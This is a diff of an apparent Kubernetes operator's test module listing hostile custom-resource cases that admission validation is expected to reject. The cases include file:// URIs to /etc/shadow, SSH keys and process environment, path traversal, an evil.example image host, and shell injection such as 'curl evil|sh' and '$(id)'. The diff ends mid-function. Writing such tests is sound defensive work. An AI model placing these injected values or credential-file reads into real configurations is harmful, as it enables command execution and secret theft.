@@ -13,30 +13,8 @@ objects or the operator's configuration).
 from __future__ import annotations
 
 import copy
-import json
-import logging
-import tempfile
-import time
-import uuid
 from dataclasses import dataclass
-from pathlib import Path
 from typing import Any
-
-import httpx
-
-from braid.api.common import API_VERSION
-from braid.api.v1alpha1.registry import KINDS
-from braid.logs import log_event
-from braid_dev.reliability.invalid_crs import api_client
-from braid_dev.stack.cluster import ClusterAccess
-from braid_dev.stack.operator_process import (
-    install_operator_prerequisites,
-    install_webhook,
-    start_operator,
-    uninstall_webhook,
-)
-
-logger = logging.getLogger(__name__)
 
 LOCAL = "<local>"
 HOST = "<host>"
@@ -152,6 +130,12 @@ class HostileCase:
         return resolve(self.spec, local, host)
 
 
+def resolve(spec: dict[str, Any], local: str, host: str) -> dict[str, Any]:
+    """``spec`` with the namespace placeholders replaced."""
+    result: dict[str, Any] = _substitute(spec, {LOCAL: local, HOST: host})
+    return result
+
+
 def _substitute(node: Any, names: dict[str, str]) -> Any:
     if isinstance(node, dict):
         return {k: _substitute(v, names) for k, v in node.items()}
@@ -200,762 +184,93 @@ _XOUT = {
     "to": {"model": {"name": "toy", "namespace": LOCAL}, "block": 3},
 }
 
+# One case a line: the table reads as a table.
+# fmt: off
 CASES: list[HostileCase] = [
-    # -- URIs followed on the node or in the operator ------------------------------------------
-    _c(
-        "block-hostpath-root",
-        "uri",
-        "Block",
-        changed(BLOCK, modelRepository={"uri": "file:///", "format": "triton-repository"}),
-        "spec.modelRepository.uri",
-        layer="webhook",
-    ),
-    _c(
-        "block-hostpath-etc",
-        "uri",
-        "Block",
-        changed(BLOCK, modelRepository={"uri": "file:///etc/kubernetes"}),
-        "file:// names a path on a node",
-        layer="webhook",
-    ),
-    _c(
-        "block-hostpath-var-run",
-        "uri",
-        "Block",
-        changed(BLOCK, modelRepository={"uri": "file:///var/run/containerd"}),
-        "refused in cluster mode",
-        layer="webhook",
-    ),
-    _c(
-        "model-catalog-file",
-        "uri",
-        "Model",
-        changed(TOY, catalog={"uri": "file:///etc/shadow"}),
-        "spec.catalog.uri",
-        layer="webhook",
-        name="toy2",
-    ),
-    _c(
-        "model-catalog-proc",
-        "uri",
-        "Model",
-        changed(TOY, catalog={"uri": "file:///proc/self/environ"}),
-        "spec.catalog.uri",
-        layer="webhook",
-        name="toy3",
-    ),
-    _c(
-        "model-artifact-file",
-        "uri",
-        "Model",
-        changed(TOY, artifact={"uri": "file:///root/.ssh/id_rsa"}),
-        "spec.artifact.uri",
-        layer="webhook",
-        name="toy4",
-    ),
-    _c(
-        "link-artifact-file",
-        "uri",
-        "Link",
-        changed(SKIP, artifact={"uri": "file:///etc/passwd"}),
-        "spec.artifact.uri",
-        layer="webhook",
-        name="toy.skip.0-2.file",
-    ),
-    _c(
-        "model-catalog-s3",
-        "uri",
-        "Model",
-        changed(TOY, catalog={"uri": "s3://bucket/catalog.json"}),
-        "spec.catalog.uri",
-        name="toy5",
-    ),
-    _c(
-        "model-catalog-https",
-        "uri",
-        "Model",
-        changed(TOY, catalog={"uri": "https://evil.example/catalog.json"}),
-        "spec.catalog.uri",
-        name="toy6",
-    ),
-    _c(
-        "pvc-subpath-dotdot",
-        "uri",
-        "Block",
-        changed(BLOCK, modelRepository={"uri": "pvc://repo/../../etc"}),
-        "spec.modelRepository.uri",
-    ),
-    _c(
-        "pvc-subpath-dotdot-end",
-        "uri",
-        "Block",
-        changed(BLOCK, modelRepository={"uri": "pvc://repo/models/.."}),
-        "'..' path segment",
-    ),
-    _c(
-        "pvc-bad-claim",
-        "uri",
-        "Block",
-        changed(BLOCK, modelRepository={"uri": "pvc://Bad_Claim/x"}),
-        "spec.modelRepository.uri",
-    ),
-    _c(
-        "configmap-dotdot",
-        "uri",
-        "Model",
-        changed(TOY, catalog={"uri": "configmap://../kube-system/x"}),
-        "spec.catalog.uri",
-        name="toy7",
-    ),
-    _c(
-        "uri-with-space",
-        "uri",
-        "Block",
-        changed(BLOCK, modelRepository={"uri": "s3://bucket/a b"}),
-        "spec.modelRepository.uri",
-    ),
-    _c(
-        "uri-unknown-scheme",
-        "uri",
-        "Block",
-        changed(BLOCK, modelRepository={"uri": "ftp://host/repo"}),
-        "spec.modelRepository.uri",
-    ),
-    _c(
-        "uri-backslash",
-        "uri",
-        "Model",
-        changed(TOY, artifact={"uri": "https://host/m\\..\\..\\etc"}),
-        "spec.artifact.uri",
-        name="toy8",
-    ),
-    _c(
-        "dimee-pools-dotdot",
-        "uri",
-        "OffloadPolicy",
-        changed(POLICY, dimee={"enabled": True, "pools": "/models/../../etc/x.json"}),
-        "spec.dimee.pools",
-        name="pol-pools1",
-    ),
-    _c(
-        "dimee-pools-not-json",
-        "uri",
-        "OffloadPolicy",
-        changed(POLICY, dimee={"enabled": True, "pools": "/etc/shadow"}),
-        "spec.dimee.pools",
-        name="pol-pools2",
-    ),
-    _c(
-        "dimee-pools-empty",
-        "uri",
-        "OffloadPolicy",
-        changed(POLICY, dimee={"enabled": True, "pools": ""}),
-        "spec.dimee.pools",
-        name="pol-pools3",
-    ),
-    # -- references across namespaces ----------------------------------------------------------
-    _c(
-        "block-other-namespace-model",
-        "reference",
-        "Block",
-        changed(BLOCK, modelRef={"name": "host", "namespace": HOST}),
-        "spec.modelRef.namespace",
-        layer="webhook",
-    ),
-    _c(
-        "block-partition-beyond-model",
-        "reference",
-        "Block",
-        changed(BLOCK, partitions={"first": 0, "last": 9}),
-        "spec.partitions.last",
-        layer="webhook",
-    ),
-    _c(
-        "policy-other-namespace-model",
-        "reference",
-        "OffloadPolicy",
-        changed(POLICY, modelRef={"name": "host", "namespace": HOST}, allowedHosts=[]),
-        "spec.modelRef.namespace",
-        layer="webhook",
-        name="pol-ref1",
-    ),
-    _c(
-        "policy-allowed-own-namespace",
-        "reference",
-        "OffloadPolicy",
-        changed(POLICY, allowedHosts=[{"namespace": LOCAL}]),
-        "spec.allowedHosts[0].namespace",
-        layer="webhook",
-        name="pol-ref2",
-    ),
-    _c(
-        "policy-exit-without-head",
-        "reference",
-        "OffloadPolicy",
-        changed(POLICY, earlyExits=[{"block": 2, "confidence": 0.8}]),
-        "spec.earlyExits[0].block",
-        layer="webhook",
-        name="pol-ref3",
-    ),
-    _c(
-        "policy-exit-beyond-model",
-        "reference",
-        "OffloadPolicy",
-        changed(POLICY, earlyExits=[{"block": 9, "confidence": 0.8}]),
-        "spec.earlyExits[0].block",
-        layer="webhook",
-        name="pol-ref4",
-    ),
-    _c(
-        "policy-dimee-deeper-than-model",
-        "reference",
-        "OffloadPolicy",
-        changed(
-            POLICY,
-            dimee={"enabled": True, "pools": "/m/p.json", "mobileLayers": 2, "edgeLayers": 40},
-        ),
-        "spec.dimee.edgeLayers",
-        layer="webhook",
-        name="pol-ref5",
-    ),
-    _c(
-        "link-skip-other-namespace",
-        "reference",
-        "Link",
-        changed(
-            SKIP,
-            **{
-                "from": {"model": {"name": "toy", "namespace": HOST}, "block": 0},
-                "to": {"model": {"name": "toy", "namespace": HOST}, "block": 2},
-            },
-        ),
-        "spec.from.model.namespace",
-        layer="webhook",
-        name="toy.skip.0-2.ns",
-    ),
-    _c(
-        "link-skip-namespaces-differ",
-        "reference",
-        "Link",
-        changed(
-            SKIP,
-            **{
-                "from": {"model": {"name": "toy", "namespace": LOCAL}, "block": 0},
-                "to": {"model": {"name": "toy", "namespace": HOST}, "block": 2},
-            },
-        ),
-        "spec.to.model.namespace",
-        name="toy.skip.0-2.ns2",
-    ),
-    _c(
-        "link-skip-two-models",
-        "reference",
-        "Link",
-        changed(SKIP, to={"model": {"name": "other"}, "block": 2}),
-        "spec.to.model.name",
-        name="toy.skip.0-2.two",
-    ),
-    _c(
-        "link-block-beyond-model",
-        "reference",
-        "Link",
-        changed(SKIP, to={"model": {"name": "toy"}, "block": 9}),
-        "spec.to.block",
-        layer="webhook",
-        name="toy.skip.0-9.normal",
-    ),
-    _c(
-        "link-from-beyond-model",
-        "reference",
-        "Link",
-        changed(
-            SKIP,
-            **{
-                "from": {"model": {"name": "toy"}, "block": 7},
-                "to": {"model": {"name": "toy"}, "block": 9},
-            },
-        ),
-        "spec.from.block",
-        layer="webhook",
-        name="toy.skip.7-9.normal",
-    ),
-    _c(
-        "link-served-by-other-namespace",
-        "reference",
-        "Link",
-        changed(SKIP, servedBy={"name": "host-all", "namespace": HOST}),
-        "spec.servedBy.namespace",
-        name="toy.skip.0-2.served",
-    ),
-    _c(
-        "skip-lin-right-after-lout",
-        "reference",
-        "Link",
-        changed(SKIP, to={"model": {"name": "toy"}, "block": 1}),
-        "spec.to.block",
-        name="toy.skip.0-1.normal",
-    ),
-    _c(
-        "cross-entry-host-elsewhere",
-        "reference",
-        "Link",
-        changed(XIN, to={"model": {"name": "host", "namespace": LOCAL}, "block": 1}),
-        "spec.to.model.namespace",
-        namespace=HOST,
-        name="host.xin.toy.where",
-    ),
-    _c(
-        "cross-link-same-model",
-        "reference",
-        "Link",
-        changed(XIN, **{"from": {"model": {"name": "host"}, "block": 0}}),
-        "spec.to.model",
-        namespace=HOST,
-        name="host.xin.host.same",
-    ),
-    _c(
-        "cross-exit-host-elsewhere",
-        "reference",
-        "Link",
-        changed(_XOUT, **{"from": {"model": {"name": "host", "namespace": LOCAL}, "block": 1}}),
-        "spec.from.model.namespace",
-        namespace=HOST,
-        name="host.xout.toy.where",
-    ),
-    # -- consent of the host --------------------------------------------------------------------
-    _c(
-        "cross-entry-unexposed-block",
-        "consent",
-        "Link",
-        changed(XIN, to={"model": {"name": "host"}, "block": 2}),
-        "spec.to.block",
-        layer="webhook",
-        namespace=HOST,
-        name="host.xin.toy.0-2.normal",
-    ),
-    _c(
-        "cross-exit-unexposed-block",
-        "consent",
-        "Link",
-        changed(_XOUT, **{"from": {"model": {"name": "host"}, "block": 0}}),
-        "not in its spec.publish.exposedBlocks",
-        layer="webhook",
-        namespace=HOST,
-        name="host.xout.toy.0-3.normal",
-    ),
-    _c(
-        "cross-entry-into-local-ns",
-        "consent",
-        "Link",
-        changed(XIN, servedBy={"name": "toy-all"}),
-        "spec.from.model.namespace",
-        layer="webhook",
-        namespace=LOCAL,
-        name="host.xin.toy.local",
-    ),
-    _c(
-        "link-takes-host-block-name",
-        "consent",
-        "Link",
-        XIN,
-        "metadata.name",
-        namespace=HOST,
-        name="host.h1",
-    ),
-    _c(
-        "link-takes-host-exit-name",
-        "consent",
-        "Link",
-        XIN,
-        "metadata.name",
-        namespace=HOST,
-        name="host.exit.1",
-    ),
-    _c(
-        "model-exposes-unknown-block",
-        "consent",
-        "Model",
-        changed(HOST_MODEL, publish={**HOST_MODEL["publish"], "exposedBlocks": ["zz"]}),
-        "spec.publish.exposedBlocks",
-        namespace=HOST,
-        name="host2",
-    ),
-    _c(
-        "model-exposes-twice",
-        "consent",
-        "Model",
-        changed(HOST_MODEL, publish={**HOST_MODEL["publish"], "exposedBlocks": ["h1", "h1"]}),
-        "spec.publish.exposedBlocks",
-        namespace=HOST,
-        name="host3",
-    ),
-    # -- names the derived objects cannot take --------------------------------------------------
+    # -- URIs followed on the node or in the operator
+    _c("block-hostpath-root", "uri", "Block", changed(BLOCK, modelRepository={"uri": "file:///", "format": "triton-repository"}), "spec.modelRepository.uri", layer="webhook"),
+    _c("block-hostpath-etc", "uri", "Block", changed(BLOCK, modelRepository={"uri": "file:///etc/kubernetes"}), "file:// names a path on a node", layer="webhook"),
+    _c("block-hostpath-var-run", "uri", "Block", changed(BLOCK, modelRepository={"uri": "file:///var/run/containerd"}), "refused in cluster mode", layer="webhook"),
+    _c("model-catalog-file", "uri", "Model", changed(TOY, catalog={"uri": "file:///etc/shadow"}), "spec.catalog.uri", layer="webhook", name="toy2"),
+    _c("model-catalog-proc", "uri", "Model", changed(TOY, catalog={"uri": "file:///proc/self/environ"}), "spec.catalog.uri", layer="webhook", name="toy3"),
+    _c("model-artifact-file", "uri", "Model", changed(TOY, artifact={"uri": "file:///root/.ssh/id_rsa"}), "spec.artifact.uri", layer="webhook", name="toy4"),
+    _c("link-artifact-file", "uri", "Link", changed(SKIP, artifact={"uri": "file:///etc/passwd"}), "spec.artifact.uri", layer="webhook", name="toy.skip.0-2.file"),
+    _c("model-catalog-s3", "uri", "Model", changed(TOY, catalog={"uri": "s3://bucket/catalog.json"}), "spec.catalog.uri", name="toy5"),
+    _c("model-catalog-https", "uri", "Model", changed(TOY, catalog={"uri": "https://evil.example/catalog.json"}), "spec.catalog.uri", name="toy6"),
+    _c("pvc-subpath-dotdot", "uri", "Block", changed(BLOCK, modelRepository={"uri": "pvc://repo/../../etc"}), "spec.modelRepository.uri"),
+    _c("pvc-subpath-dotdot-end", "uri", "Block", changed(BLOCK, modelRepository={"uri": "pvc://repo/models/.."}), "'..' path segment"),
+    _c("pvc-bad-claim", "uri", "Block", changed(BLOCK, modelRepository={"uri": "pvc://Bad_Claim/x"}), "spec.modelRepository.uri"),
+    _c("configmap-dotdot", "uri", "Model", changed(TOY, catalog={"uri": "configmap://../kube-system/x"}), "spec.catalog.uri", name="toy7"),
+    _c("uri-with-space", "uri", "Block", changed(BLOCK, modelRepository={"uri": "s3://bucket/a b"}), "spec.modelRepository.uri"),
+    _c("uri-unknown-scheme", "uri", "Block", changed(BLOCK, modelRepository={"uri": "ftp://host/repo"}), "spec.modelRepository.uri"),
+    _c("uri-backslash", "uri", "Model", changed(TOY, artifact={"uri": "https://host/m\\..\\..\\etc"}), "spec.artifact.uri", name="toy8"),
+    _c("dimee-pools-dotdot", "uri", "OffloadPolicy", changed(POLICY, dimee={"enabled": True, "pools": "/models/../../etc/x.json"}), "spec.dimee.pools", name="pol-pools1"),
+    _c("dimee-pools-not-json", "uri", "OffloadPolicy", changed(POLICY, dimee={"enabled": True, "pools": "/etc/shadow"}), "spec.dimee.pools", name="pol-pools2"),
+    _c("dimee-pools-empty", "uri", "OffloadPolicy", changed(POLICY, dimee={"enabled": True, "pools": ""}), "spec.dimee.pools", name="pol-pools3"),
+    # -- references across namespaces
+    _c("block-other-namespace-model", "reference", "Block", changed(BLOCK, modelRef={"name": "host", "namespace": HOST}), "spec.modelRef.namespace", layer="webhook"),
+    _c("block-partition-beyond-model", "reference", "Block", changed(BLOCK, partitions={"first": 0, "last": 9}), "spec.partitions.last", layer="webhook"),
+    _c("policy-other-namespace-model", "reference", "OffloadPolicy", changed(POLICY, modelRef={"name": "host", "namespace": HOST}, allowedHosts=[]), "spec.modelRef.namespace", layer="webhook", name="pol-ref1"),
+    _c("policy-allowed-own-namespace", "reference", "OffloadPolicy", changed(POLICY, allowedHosts=[{"namespace": LOCAL}]), "spec.allowedHosts[0].namespace", layer="webhook", name="pol-ref2"),
+    _c("policy-exit-without-head", "reference", "OffloadPolicy", changed(POLICY, earlyExits=[{"block": 2, "confidence": 0.8}]), "spec.earlyExits[0].block", layer="webhook", name="pol-ref3"),
+    _c("policy-exit-beyond-model", "reference", "OffloadPolicy", changed(POLICY, earlyExits=[{"block": 9, "confidence": 0.8}]), "spec.earlyExits[0].block", layer="webhook", name="pol-ref4"),
+    _c("policy-dimee-deeper-than-model", "reference", "OffloadPolicy", changed(POLICY, dimee={"enabled": True, "pools": "/m/p.json", "mobileLayers": 2, "edgeLayers": 40}), "spec.dimee.edgeLayers", layer="webhook", name="pol-ref5"),
+    _c("link-skip-other-namespace", "reference", "Link", changed(SKIP, **{"from": {"model": {"name": "toy", "namespace": HOST}, "block": 0}, "to": {"model": {"name": "toy", "namespace": HOST}, "block": 2}}), "spec.from.model.namespace", layer="webhook", name="toy.skip.0-2.ns"),
+    _c("link-skip-namespaces-differ", "reference", "Link", changed(SKIP, **{"from": {"model": {"name": "toy", "namespace": LOCAL}, "block": 0}, "to": {"model": {"name": "toy", "namespace": HOST}, "block": 2}}), "spec.to.model.namespace", name="toy.skip.0-2.ns2"),
+    _c("link-skip-two-models", "reference", "Link", changed(SKIP, to={"model": {"name": "other"}, "block": 2}), "spec.to.model.name", name="toy.skip.0-2.two"),
+    _c("link-block-beyond-model", "reference", "Link", changed(SKIP, to={"model": {"name": "toy"}, "block": 9}), "spec.to.block", layer="webhook", name="toy.skip.0-9.normal"),
+    _c("link-from-beyond-model", "reference", "Link", changed(SKIP, **{"from": {"model": {"name": "toy"}, "block": 7}, "to": {"model": {"name": "toy"}, "block": 9}}), "spec.from.block", layer="webhook", name="toy.skip.7-9.normal"),
+    _c("link-served-by-other-namespace", "reference", "Link", changed(SKIP, servedBy={"name": "host-all", "namespace": HOST}), "spec.servedBy.namespace", name="toy.skip.0-2.served"),
+    _c("skip-lin-right-after-lout", "reference", "Link", changed(SKIP, to={"model": {"name": "toy"}, "block": 1}), "spec.to.block", name="toy.skip.0-1.normal"),
+    _c("cross-entry-host-elsewhere", "reference", "Link", changed(XIN, to={"model": {"name": "host", "namespace": LOCAL}, "block": 1}), "spec.to.model.namespace", namespace=HOST, name="host.xin.toy.where"),
+    _c("cross-link-same-model", "reference", "Link", changed(XIN, **{"from": {"model": {"name": "host"}, "block": 0}}), "spec.to.model", namespace=HOST, name="host.xin.host.same"),
+    _c("cross-exit-host-elsewhere", "reference", "Link", changed(_XOUT, **{"from": {"model": {"name": "host", "namespace": LOCAL}, "block": 1}}), "spec.from.model.namespace", namespace=HOST, name="host.xout.toy.where"),
+    # -- consent of the host
+    _c("cross-entry-unexposed-block", "consent", "Link", changed(XIN, to={"model": {"name": "host"}, "block": 2}), "spec.to.block", layer="webhook", namespace=HOST, name="host.xin.toy.0-2.normal"),
+    _c("cross-exit-unexposed-block", "consent", "Link", changed(_XOUT, **{"from": {"model": {"name": "host"}, "block": 0}}), "not in its spec.publish.exposedBlocks", layer="webhook", namespace=HOST, name="host.xout.toy.0-3.normal"),
+    _c("cross-entry-into-local-ns", "consent", "Link", changed(XIN, servedBy={"name": "toy-all"}), "spec.from.model.namespace", layer="webhook", namespace=LOCAL, name="host.xin.toy.local"),
+    _c("link-takes-host-block-name", "consent", "Link", XIN, "metadata.name", namespace=HOST, name="host.h1"),
+    _c("link-takes-host-exit-name", "consent", "Link", XIN, "metadata.name", namespace=HOST, name="host.exit.1"),
+    _c("model-exposes-unknown-block", "consent", "Model", changed(HOST_MODEL, publish={**HOST_MODEL["publish"], "exposedBlocks": ["zz"]}), "spec.publish.exposedBlocks", namespace=HOST, name="host2"),
+    _c("model-exposes-twice", "consent", "Model", changed(HOST_MODEL, publish={**HOST_MODEL["publish"], "exposedBlocks": ["h1", "h1"]}), "spec.publish.exposedBlocks", namespace=HOST, name="host3"),
+    # -- names the derived objects cannot take
     _c("block-name-dots", "name", "Block", BLOCK, "metadata.name", name="toy.all"),
     _c("block-name-too-long", "name", "Block", BLOCK, "metadata.name", name="b" * 57),
     _c("block-name-leading-digit", "name", "Block", BLOCK, "metadata.name", name="1block"),
     _c("model-name-dots", "name", "Model", TOY, "metadata.name", name="toy.v2"),
     _c("policy-name-dots", "name", "OffloadPolicy", POLICY, "metadata.name", name="pol.v2"),
     _c("policy-name-leading-digit", "name", "OffloadPolicy", POLICY, "metadata.name", name="9pol"),
-    _c(
-        "model-ref-dots",
-        "name",
-        "Block",
-        changed(BLOCK, modelRef={"name": "toy.v2"}),
-        "spec.modelRef.name",
-    ),
+    _c("model-ref-dots", "name", "Block", changed(BLOCK, modelRef={"name": "toy.v2"}), "spec.modelRef.name"),
     _c("node-pool-spaces", "name", "Block", changed(BLOCK, nodePool="pool a; rm"), "spec.nodePool"),
-    _c(
-        "tensor-name-shell",
-        "name",
-        "Model",
-        changed(TOY, input={"name": "$(id)", "datatype": "FP32", "shape": [1]}),
-        "spec.input.name",
-        name="toy9",
-    ),
-    _c(
-        "host-namespace-invalid",
-        "name",
-        "OffloadPolicy",
-        changed(POLICY, allowedHosts=[{"namespace": "Not_A_NS"}]),
-        "spec.allowedHosts[0].namespace",
-        name="pol-name1",
-    ),
-    _c(
-        "host-model-too-long",
-        "name",
-        "OffloadPolicy",
-        changed(POLICY, allowedHosts=[{"namespace": HOST, "model": "m" * 64}]),
-        "spec.allowedHosts[0].model",
-        name="pol-name2",
-    ),
-    _c(
-        "candidate-path-too-long",
-        "name",
-        "OffloadPolicy",
-        changed(POLICY, allPaths=False, candidatePaths=["p" * 254]),
-        "spec.candidatePaths[0]",
-        name="pol-name3",
-    ),
-    # -- values with no bounds or meaning -------------------------------------------------------
-    _c(
-        "image-shell",
-        "value",
-        "Block",
-        changed(BLOCK, triton={"image": "nvcr.io/x; curl evil|sh"}),
-        "spec.triton.image",
-    ),
-    _c(
-        "image-too-long",
-        "value",
-        "Block",
-        changed(BLOCK, triton={"image": "nvcr.io/" + "a" * 300}),
-        "spec.triton.image",
-    ),
-    _c(
-        "image-scheme",
-        "value",
-        "Block",
-        changed(BLOCK, triton={"image": "https://evil.example/triton"}),
-        "spec.triton.image",
-    ),
-    _c(
-        "image-not-allowed",
-        "value",
-        "Block",
-        changed(BLOCK, triton={"image": "docker.io/evil/miner:latest"}),
-        "spec.triton.image",
-        layer="webhook",
-    ),
-    _c(
-        "memory-without-unit",
-        "value",
-        "Block",
-        changed(BLOCK, resources={"cpu": "1", "memory": "2"}),
-        "spec.resources.memory",
-    ),
-    _c(
-        "memory-zero",
-        "value",
-        "Block",
-        changed(BLOCK, resources={"cpu": "1", "memory": "0Gi"}),
-        "spec.resources.memory",
-    ),
-    _c(
-        "cpu-garbage",
-        "value",
-        "Block",
-        changed(BLOCK, resources={"cpu": "1e9", "memory": "1Gi"}),
-        "spec.resources.cpu",
-    ),
-    _c(
-        "shm-without-unit",
-        "value",
-        "Block",
-        changed(BLOCK, triton={"shmSize": "256"}),
-        "spec.triton.shmSize",
-    ),
-    _c(
-        "batch-size-above-max",
-        "value",
-        "Block",
-        changed(BLOCK, triton={"maxBatchSize": 4, "dynamicBatching": {"preferredBatchSizes": [8]}}),
-        "spec.triton.dynamicBatching.preferredBatchSizes",
-    ),
-    _c(
-        "batch-sizes-duplicate",
-        "value",
-        "Block",
-        changed(BLOCK, triton={"dynamicBatching": {"preferredBatchSizes": [4, 4]}}),
-        "spec.triton.dynamicBatching.preferredBatchSizes",
-    ),
-    _c(
-        "reduction-above-channels",
-        "value",
-        "Link",
-        changed(
-            SKIP,
-            architecture={"type": "conv", "reduction": 32},
-            input={"name": "lout", "datatype": "FP32", "shape": [16, 8, 8]},
-        ),
-        "spec.architecture.reduction",
-        name="toy.skip.0-2.r32",
-    ),
-    _c(
-        "reduction-above-features",
-        "value",
-        "Link",
-        changed(
-            SKIP,
-            architecture={"type": "linear", "reduction": 64},
-            input={"name": "lout", "datatype": "FP32", "shape": [10]},
-        ),
-        "spec.architecture.reduction",
-        name="toy.skip.0-2.r64",
-    ),
-    _c(
-        "tensor-zero-dim",
-        "value",
-        "Model",
-        changed(TOY, input={"name": "image", "datatype": "FP32", "shape": [1, 0, 8]}),
-        "spec.input.shape",
-        name="toy10",
-    ),
-    _c(
-        "duplicate-exit-rules",
-        "value",
-        "OffloadPolicy",
-        changed(
-            POLICY, earlyExits=[{"block": 1, "confidence": 0.8}, {"block": 1, "confidence": 0.5}]
-        ),
-        "spec.earlyExits[1]",
-        name="pol-val1",
-    ),
-    _c(
-        "cost-margin-freezes",
-        "value",
-        "OffloadPolicy",
-        changed(POLICY, hysteresis={"costMargin": 1.0}),
-        "spec.hysteresis.costMargin",
-        name="pol-val2",
-    ),
-    _c(
-        "all-zero-coefficients",
-        "value",
-        "OffloadPolicy",
-        changed(POLICY, cost={"a": 0, "b": 0, "cLocal": 0, "cHost": 0, "dLocal": 0, "dHost": 0}),
-        "spec.cost.a",
-        name="pol-val3",
-    ),
-    _c(
-        "accuracy-sensitivity-overflows",
-        "value",
-        "OffloadPolicy",
-        changed(POLICY, cost={"a": 1000}),
-        "spec.cost.a",
-        name="pol-val4",
-    ),
-    _c(
-        "duplicate-allowed-hosts",
-        "value",
-        "OffloadPolicy",
-        changed(
-            POLICY,
-            allowedHosts=[
-                {"namespace": HOST, "model": "host"},
-                {"namespace": HOST, "model": "host"},
-            ],
-        ),
-        "spec.allowedHosts[1]",
-        layer="webhook",
-        name="pol-val5",
-    ),
-    _c(
-        "duplicate-candidate-paths",
-        "value",
-        "OffloadPolicy",
-        changed(POLICY, allPaths=False, candidatePaths=["toy/original", "toy/original"]),
-        "spec.candidatePaths[1]",
-        name="pol-val6",
-    ),
-    _c(
-        "partition-gap",
-        "value",
-        "Model",
-        changed(TOY, partition={"blocks": [_BLOCKS[0], {**_BLOCKS[1], "firstLayer": 3}]}),
-        "spec.partition.blocks",
-        name="toy11",
-    ),
-    _c(
-        "partition-duplicate-names",
-        "value",
-        "Model",
-        changed(TOY, partition={"blocks": [_BLOCKS[0], {**_BLOCKS[1], "name": "b0"}]}),
-        "spec.partition.blocks[1]",
-        name="toy12",
-    ),
+    _c("tensor-name-shell", "name", "Model", changed(TOY, input={"name": "$(id)", "datatype": "FP32", "shape": [1]}), "spec.input.name", name="toy9"),
+    _c("host-namespace-invalid", "name", "OffloadPolicy", changed(POLICY, allowedHosts=[{"namespace": "Not_A_NS"}]), "spec.allowedHosts[0].namespace", name="pol-name1"),
+    _c("host-model-too-long", "name", "OffloadPolicy", changed(POLICY, allowedHosts=[{"namespace": HOST, "model": "m" * 64}]), "spec.allowedHosts[0].model", name="pol-name2"),
+    _c("candidate-path-too-long", "name", "OffloadPolicy", changed(POLICY, allPaths=False, candidatePaths=["p" * 254]), "spec.candidatePaths[0]", name="pol-name3"),
+    # -- values with no bounds or meaning
+    _c("image-shell", "value", "Block", changed(BLOCK, triton={"image": "nvcr.io/x; curl evil|sh"}), "spec.triton.image"),
+    _c("image-too-long", "value", "Block", changed(BLOCK, triton={"image": "nvcr.io/" + "a" * 300}), "spec.triton.image"),
+    _c("image-scheme", "value", "Block", changed(BLOCK, triton={"image": "https://evil.example/triton"}), "spec.triton.image"),
+    _c("image-not-allowed", "value", "Block", changed(BLOCK, triton={"image": "docker.io/evil/miner:latest"}), "spec.triton.image", layer="webhook"),
+    _c("memory-without-unit", "value", "Block", changed(BLOCK, resources={"cpu": "1", "memory": "2"}), "spec.resources.memory"),
+    _c("memory-zero", "value", "Block", changed(BLOCK, resources={"cpu": "1", "memory": "0Gi"}), "spec.resources.memory"),
+    _c("cpu-garbage", "value", "Block", changed(BLOCK, resources={"cpu": "1e9", "memory": "1Gi"}), "spec.resources.cpu"),
+    _c("shm-without-unit", "value", "Block", changed(BLOCK, triton={"shmSize": "256"}), "spec.triton.shmSize"),
+    _c("batch-size-above-max", "value", "Block", changed(BLOCK, triton={"maxBatchSize": 4, "dynamicBatching": {"preferredBatchSizes": [8]}}), "spec.triton.dynamicBatching.preferredBatchSizes"),
+    _c("batch-sizes-duplicate", "value", "Block", changed(BLOCK, triton={"dynamicBatching": {"preferredBatchSizes": [4, 4]}}), "spec.triton.dynamicBatching.preferredBatchSizes"),
+    _c("reduction-above-channels", "value", "Link", changed(SKIP, architecture={"type": "conv", "reduction": 32}, input={"name": "lout", "datatype": "FP32", "shape": [16, 8, 8]}), "spec.architecture.reduction", name="toy.skip.0-2.r32"),
+    _c("reduction-above-features", "value", "Link", changed(SKIP, architecture={"type": "linear", "reduction": 64}, input={"name": "lout", "datatype": "FP32", "shape": [10]}), "spec.architecture.reduction", name="toy.skip.0-2.r64"),
+    _c("tensor-zero-dim", "value", "Model", changed(TOY, input={"name": "image", "datatype": "FP32", "shape": [1, 0, 8]}), "spec.input.shape", name="toy10"),
+    _c("duplicate-exit-rules", "value", "OffloadPolicy", changed(POLICY, earlyExits=[{"block": 1, "confidence": 0.8}, {"block": 1, "confidence": 0.5}]), "spec.earlyExits[1]", name="pol-val1"),
+    _c("cost-margin-freezes", "value", "OffloadPolicy", changed(POLICY, hysteresis={"costMargin": 1.0}), "spec.hysteresis.costMargin", name="pol-val2"),
+    _c("all-zero-coefficients", "value", "OffloadPolicy", changed(POLICY, cost={"a": 0, "b": 0, "cLocal": 0, "cHost": 0, "dLocal": 0, "dHost": 0}), "spec.cost.a", name="pol-val3"),
+    _c("accuracy-sensitivity-overflows", "value", "OffloadPolicy", changed(POLICY, cost={"a": 1000}), "spec.cost.a", name="pol-val4"),
+    _c("duplicate-allowed-hosts", "value", "OffloadPolicy", changed(POLICY, allowedHosts=[{"namespace": HOST, "model": "host"}, {"namespace": HOST, "model": "host"}]), "spec.allowedHosts[1]", layer="webhook", name="pol-val5"),
+    _c("duplicate-candidate-paths", "value", "OffloadPolicy", changed(POLICY, allPaths=False, candidatePaths=["toy/original", "toy/original"]), "spec.candidatePaths[1]", name="pol-val6"),
+    _c("partition-gap", "value", "Model", changed(TOY, partition={"blocks": [_BLOCKS[0], {**_BLOCKS[1], "firstLayer": 3}]}), "spec.partition.blocks", name="toy11"),
+    _c("partition-duplicate-names", "value", "Model", changed(TOY, partition={"blocks": [_BLOCKS[0], {**_BLOCKS[1], "name": "b0"}]}), "spec.partition.blocks[1]", name="toy12"),
 ]
+# fmt: on
 
 
 def case_ids() -> list[str]:
     return [c.id for c in CASES]
-
-
-# -- sending them to a real API server, with the operator's webhook registered ---------------
-
-
-@dataclass(frozen=True)
-class HostileOutcome:
-    case: HostileCase
-    status: int
-    message: str
-
-    @property
-    def admitted(self) -> bool:
-        return self.status < 300
-
-    @property
-    def names_reason(self) -> bool:
-        return self.case.expect in self.message
-
-
-def dry_run(
-    client: httpx.Client, kind: str, namespace: str, name: str, spec: dict[str, Any]
-) -> tuple[int, str]:
-    """Status and message of a server-side dry-run create (strict field validation)."""
-    plural = next(info.plural for info in KINDS if info.kind == kind)
-    response = client.post(
-        f"/apis/{API_VERSION}/namespaces/{namespace}/{plural}",
-        params={"dryRun": "All", "fieldValidation": "Strict"},
-        json={
-            "apiVersion": API_VERSION,
-            "kind": kind,
-            "metadata": {"name": name, "namespace": namespace},
